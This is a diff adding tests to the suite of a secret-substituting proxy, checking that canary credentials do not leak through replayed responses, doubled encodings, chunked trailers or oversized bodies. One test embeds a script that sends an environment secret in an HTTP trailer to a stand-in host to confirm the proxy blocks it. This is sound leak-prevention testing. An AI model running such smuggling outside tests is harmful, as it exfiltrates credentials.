@@ -232,6 +232,56 @@ def has(pid, needle):
     return False
 
 
+def test_nor_has_an_answer_to_another_request(online):
+    """What a server was told once it may tell at any time."""
+    real = canary()
+    give(online, real)
+    where = online.lab.raw(f"HTTP/1.1 200 OK\r\ncontent-length: {len(real)}\r\n\r\n{real}".encode())
+    done, fake, said = sh(online, fetch("--http1.1", f"'{UP}{where}'"))
+    assert said == fake and real not in done.out
+
+
+def test_two_codings(online):
+    real = canary()
+    give(online, real)
+    where = online.lab.raw(b"HTTP/1.1 200 OK\r\ncontent-encoding: identity\r\ncontent-encoding: gzip\r\n"
+                           b"content-length: 3\r\n\r\nabc")
+    done, _, said = sh(online, fetch("--http1.1", '-H "Authorization: Bearer $KEY"', f"'{UP}{where}'"))
+    assert done.out.count("abc") == 0 and "upstream" in said
+
+
+def test_a_trailer_has_none(online):
+    give(online, canary())
+    script = """import os, socket, ssl
+s = ssl.create_default_context().wrap_socket(socket.create_connection(("up.example.test", 443)),
+                                            server_hostname="up.example.test")
+s.sendall(b"POST /echo HTTP/1.1\\r\\nHost: up.example.test\\r\\nTrailer: x-t\\r\\nTransfer-Encoding: chunked\\r\\n"
+          b"Connection: close\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\nx-t: " + os.environ["KEY"].encode() + b"\\r\\n\\r\\n")
+print(os.environ["KEY"])
+while data := s.recv(65536): print(data.decode())
+"""
+    done = online.python(OPEN, script, options=("-s", "KEY"))
+    fake = done.out.splitlines()[0]
+    assert online.refusal()["why"] == "exfiltration"
+    assert not online.lab.seen(fake)
+
+
+def test_values_far_longer_than_their_placeholders(online):
+    """A body that would grow beyond bounds is refused, and the courier lives."""
+    part = base64.urlsafe_b64encode(os.urandom(3000)).decode().rstrip("=")
+    head = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').decode().rstrip("=")
+    give(online, f"{head}.{part}.{part[:43]}", "--in", "body", "--shape", "jwt")
+    online.start(OPEN + "    body: {max: 64M}\n", "sh", "-c", "for i in $(seq 3000); do printf '%s ' \"$KEY\"; "
+                 "done >body; while [ ! -e go ]; do :; done; " + fetch(
+                     "--http1.1 -H Expect: -H 'Transfer-Encoding: chunked' -X POST -T body", f"{UP}/echo", ">out; ") +
+                 fetch(f"{UP}/echo", ">again; exec sleep 1000"), options=("-s", "KEY"))
+    online.inside(*CURL, f"{UP}/echo").ok()
+    before = helpers_of(online.operator, online.cell)["courier"]
+    online.inside("touch", "go").ok()
+    wait_until(lambda: online.inside("sh", "-c", "test -s again").status == 0, "both requests are over")
+    assert helpers_of(online.operator, online.cell)["courier"] == before
+
+
 # ---- signatures --------------------------------------------------------------------------
 
 def sigv4(secret, method, target, fields, body, region, service):
